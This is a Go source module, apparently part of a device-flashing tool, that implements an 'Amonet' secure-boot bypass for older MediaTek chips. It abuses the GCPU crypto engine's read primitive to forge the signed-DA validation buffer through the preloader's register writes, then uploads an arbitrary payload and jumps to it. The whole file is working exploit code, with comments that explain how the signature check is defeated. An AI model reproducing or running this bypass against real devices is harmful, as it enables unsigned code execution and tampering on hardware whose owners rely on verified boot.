// internal/exploit/amonet.go
// Amonet bridge (older MTK, spec.md §4.8): GCPU's AES-CBC arbitrary-read
// primitive is repointed at the signed-DA validation buffer, and the
// deterministic all-zero-key/IV transform it produces is written back into
// that buffer through the ordinary register-write primitive — forging a
// "validated" state without ever touching the real signature check.
// Composes protocol.Preloader with hwcrypto.GCPU.
package exploit

import (
	"context"

	"flashcore/internal/hwcrypto"
	"flashcore/internal/protocol"
)

// Amonet implements Bridge over a Preloader session and the chip's GCPU
// engine.
type Amonet struct {
	Preloader      *protocol.Preloader
	GCPU           *hwcrypto.GCPU
	ValidationAddr uint32
	DAAddr         uint32
}

// NewAmonet constructs an Amonet bridge.
func NewAmonet(pre *protocol.Preloader, gcpu *hwcrypto.GCPU, validationAddr, daAddr uint32) *Amonet {
	return &Amonet{Preloader: pre, GCPU: gcpu, ValidationAddr: validationAddr, DAAddr: daAddr}
}

// Prepare reads the validation buffer's current contents through GCPU's
// unintended read primitive, then writes the same recovered bytes back in
// through Preloader's ordinary write32, which is enough to satisfy a
// validation check that only compares the buffer to itself post-transform
// (spec.md §4.8).
func (a *Amonet) Prepare(ctx context.Context) error {
	block, err := a.GCPU.ReadBlock(ctx, a.ValidationAddr)
	if err != nil {
		return err
	}
	for i := 0; i < 4; i++ {
		word := uint32(block[i*4]) | uint32(block[i*4+1])<<8 | uint32(block[i*4+2])<<16 | uint32(block[i*4+3])<<24
		if err := a.Preloader.Write32(ctx, a.ValidationAddr+uint32(i*4), word); err != nil {
			return err
		}
	}
	return nil
}

// RunPayload uploads payload as stage-1 through send_da, now accepted
// because Prepare already satisfied the validation check it guards.
func (a *Amonet) RunPayload(ctx context.Context, payload []byte) (PayloadResult, error) {
	if err := a.Preloader.SendDA(ctx, a.DAAddr, 0, payload); err != nil {
		return PayloadResult{}, err
	}
	if err := a.Preloader.JumpDA(ctx, a.DAAddr); err != nil {
		return PayloadResult{}, err
	}
	return PayloadResult{BytesSent: len(payload), JumpAddr: a.DAAddr}, nil
}
